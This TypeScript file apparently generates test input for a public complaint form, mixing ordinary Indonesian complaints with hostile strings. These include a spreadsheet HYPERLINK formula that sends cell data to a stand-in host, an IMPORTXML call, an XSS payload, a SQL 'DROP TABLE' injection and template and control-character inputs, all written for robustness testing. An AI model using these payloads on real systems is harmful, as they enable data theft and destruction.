// SPDX-License-Identifier: Apache-2.0
// What citizens type into the form: ordinary complaints, and everything that a spreadsheet, a
// template or a mail could take for something else. It knows nothing of the form.

import type { Acak } from '../kantor/acak.ts';
import type { GayaTeks } from './laku.ts';
import type { Pelapor } from './pelapor.ts';

const POKOK = [
  'Jalan di depan balai desa berlubang sejak bulan lalu dan sudah ada yang terjatuh.',
  'Lampu penerangan jalan di pertigaan pasar mati sudah dua minggu.',
  'Sampah menumpuk di tepi sungai dan baunya sampai ke sekolah.',
  'Saluran air di dusun kami tersumbat sehingga rumah tergenang setiap hujan.',
  'Petugas loket tidak ada di tempat pada jam pelayanan hari Selasa.',
  'Mohon informasi syarat pengurusan surat pindah datang.',
];

const RUMUS = [
  '=HYPERLINK("https://contoh.example/curi?d="&A1;"klik di sini")',
  '=IMPORTXML("https://contoh.example";"//a")',
  '+62 812 tidak dapat dihubungi, mohon dicatat',
  '-1+2',
  '@SUM(A1:A9)',
  '\t=1+1',
  '＝1+1 dengan tanda lebar',
  "'=SUM(B1:B9)",
];

const ANGKA = ['0081234', '1/2', '3-4-2026', '1.500,25', '9171011506900003', 'TRUE', '08:30'];

const SISIPAN = [
  '{{isi}} {{{nama}}} {{#each}} {{/each}}',
  '<script>alert(1)</script><img src=x onerror=alert(2)>',
  '"; DROP TABLE aduan; -- \\u0000 %s ${x}',
  'baris satu\r\nbaris dua\rbaris tiga\u2028baris empat',
];

const EMOJI = '🙏🏽 Jalan rusak 😡🚧 ꦱꦸꦒꦼꦁ 👨‍👩‍👧‍👦 mohon segera 🇮🇩';
const KENDALI = 'Jalan\u200b rusak\u202e terbalik\u202c \u0007bel \ufeffawal \ud800 separuh';
/** More than a cell holds. */
const PANJANG = 60_000;

export function createTeks(gaya: GayaTeks, pelapor: Pelapor, acak: Acak): string {
  const pokok = pilih(POKOK, acak);
  switch (gaya) {
    case 'biasa':
      return pokok;
    case 'singkat':
      return 'rusak';
    case 'rumus':
      return pilih(RUMUS, acak);
    case 'angka':
      return pilih(ANGKA, acak);
    case 'sisipan':
      return `${pilih(SISIPAN, acak)} ${pokok}`;
    case 'emoji':
      return EMOJI;
    case 'kendali':
      return KENDALI;
    case 'identitas':
      return (
        `Saya ${pelapor.nama}, NIK ${pelapor.nik}, telepon ${pelapor.telepon}` +
        `${pelapor.surel === '' ? '' : `, surel ${pelapor.surel}`}. ${pokok}`
      );
    case 'panjang':
      return `${pokok} `.repeat(Math.ceil(PANJANG / pokok.length));
  }
}

export const pilih = <T>(daftar: readonly T[], acak: Acak): T =>
  daftar[Math.floor(acak.next() * daftar.length)] as T;
